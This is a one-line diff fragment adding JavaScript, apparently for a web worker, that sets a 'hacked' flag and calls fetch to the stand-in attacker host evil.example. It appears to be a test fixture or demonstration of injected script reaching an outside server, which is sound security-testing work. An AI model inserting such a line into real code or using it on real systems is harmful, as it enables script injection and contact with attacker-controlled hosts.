@@ -1,0 +1,1 @@
+self.hacked = 'worker'; fetch('http://evil.example/worker');
